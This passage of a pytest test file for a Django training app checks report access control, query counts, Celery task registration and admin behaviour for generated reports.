    client.force_login(world.trainer)  # a trainer never sees what they did not ask for
    assert client.get(reverse("report_detail", args=[report.pk])).status_code == 404


@pytest.mark.parametrize("count", [3, 30])
def test_the_report_list_takes_the_same_queries_for_3_or_30_reports(client, world, count, django_assert_num_queries):
    for _ in range(count):
        request_report(kind="cohort", params={"cohort": world.cohort.pk}, user=world.hr)
    client.force_login(world.hr)
    # session, user, roles, count for the paginator, the page of reports with who asked, cohorts,
    # and the notification bell's unread count (notifications.context_processors.notifications)
    with django_assert_num_queries(7):
        response = client.get(reverse("report_list"))
    assert response.content.decode().count('data-report-status-url="') == count


def test_the_worker_finds_the_build_task():
    """Celery autodiscovers <app>.tasks only: training/tasks.py must import tasks_reports."""
    if not (ROOT / "training" / "tasks.py").exists():
        pytest.skip("training/tasks.py, which registers the task with the worker, is not written yet")
    code = (
        "import django; django.setup(); from config.celery import app; "
        "app.loader.import_default_modules(); print('training.build_report' in app.tasks)"
    )
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "config.settings"}
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True, check=True)
    assert out.stdout.strip().endswith("True"), out.stderr


def test_report_kinds_all_have_a_builder():
    assert set(ReportKind.values) == {"cohort", "training", "transcript", "weekly", "employees"}


def test_the_admin_lists_reports_read_only_and_deleting_one_removes_its_file(client, world, admin_user):
    report = build("cohort", {"cohort": world.cohort.pk}, world.hr)
    path = Path(report.file.path)
    client.force_login(admin_user)
    listing = client.get(reverse("admin:reports_report_changelist"))
    assert listing.status_code == 200 and "Cohort report: 十一月新人批" in listing.content.decode()
    assert client.get(reverse("admin:reports_report_add")).status_code == 403
    page = client.get(reverse("admin:reports_report_change", args=[report.pk])).content.decode()
    assert reverse("report_download", args=[report.pk]) in page and 'name="title"' not in page
    client.post(reverse("admin:reports_report_delete", args=[report.pk]), {"post": "yes"})
    assert not Report.objects.exists() and not path.exists()


def test_in_the_admin_a_trainer_sees_only_their_own_reports(client, world):
    from django.contrib.auth.models import Permission

    world.trainer.user_permissions.add(Permission.objects.get(codename="view_report"))
    mine = request_report(kind="cohort", params={"cohort": world.cohort.pk}, user=world.trainer)
    hrs = request_report(kind="weekly", params={"week_start": "2026-11-16"}, user=world.hr)
    client.force_login(world.trainer)
    listing = client.get(reverse("admin:reports_report_changelist")).content.decode()
    assert mine.title in listing and hrs.title not in listing
    assert client.get(reverse("admin:reports_report_change", args=[hrs.pk])).status_code == 302  # "not found"
